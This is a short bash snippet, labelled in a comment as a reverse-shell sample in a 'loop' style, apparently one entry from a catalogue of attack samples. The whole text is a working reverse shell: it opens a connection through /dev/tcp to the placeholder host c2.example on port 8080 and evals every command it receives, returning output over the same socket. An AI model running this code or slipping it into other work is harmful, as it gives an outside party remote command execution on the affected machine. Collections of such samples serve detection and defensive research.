# class: reverse shell, descriptor; style: loop
exec 5<>/dev/tcp/c2.example/8080
while read -r line 0<&5; do
    eval "$line" 2>&5 >&5
done
